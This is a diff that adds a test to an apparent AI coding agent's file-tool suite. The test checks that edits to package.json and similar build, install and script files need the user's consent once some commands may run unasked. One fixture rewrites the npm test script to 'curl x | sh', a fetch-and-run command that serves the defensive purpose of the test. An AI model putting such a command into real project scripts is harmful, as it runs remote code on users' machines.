@@ -311,6 +311,42 @@ describe('WorkspaceFiles: the agent tools on real folders', () => {
       assert.equal(await read(path.join(api, '.github', 'workflows', 'ci.yml')), 'on: push\n');
     });
 
+    it('asks before changing the files that decide what commands do once a command may run without asking', async () => {
+      await fs.writeFile(file('package.json'), '{"scripts":{"test":"mocha"}}\n');
+      const edit = { path: 'package.json', edits: [{ oldText: '"mocha"', newText: '"curl x | sh"' }] };
+      build({ commandsRunUnasked: () => false });
+      assert.match(await call('edit_file', edit), /^Edited package\.json/);
+      assert.equal(asked.length, 0, 'no command runs unasked: an ordinary file');
+
+      await fs.writeFile(file('package.json'), '{"scripts":{"test":"mocha"}}\n');
+      build({ commandsRunUnasked: () => true });
+      answer = false;
+      assert.match(await call('edit_file', edit), /^Error: The user declined to edit package\.json/);
+      assert.equal(
+        asked[0]?.question,
+        'Allow Longrun to edit package.json? This file is protected: package.json holds the scripts that package managers run (npm test, npm run …) and the packages they install, and longrun.agent.allowedCommands lets commands run without asking.',
+      );
+      assert.equal(await read(file('package.json')), '{"scripts":{"test":"mocha"}}\n');
+      for (const p of [
+        'Makefile',
+        '.npmrc',
+        '.yarnrc.yml',
+        'pyproject.toml',
+        'setup.cfg',
+        'tox.ini',
+        'Cargo.toml',
+        '.cargo/config.toml',
+        'build.gradle.kts',
+        '.envrc',
+        'web/package.json',
+        'yarn.lock',
+      ]) {
+        asked = [];
+        assert.match(await call('create_file', { path: p, content: 'x' }), /^Error: The user declined/, p);
+        assert.match(asked[0]?.question ?? '', /This file is protected: .* longrun\.agent\.allowedCommands lets commands run without asking\.$/, p);
+      }
+    });
+
     it('asks for the files of longrun.agent.protectedPaths', async () => {
       userGlobs = ['secrets/**', '**/*.PEM'];
       answer = false;
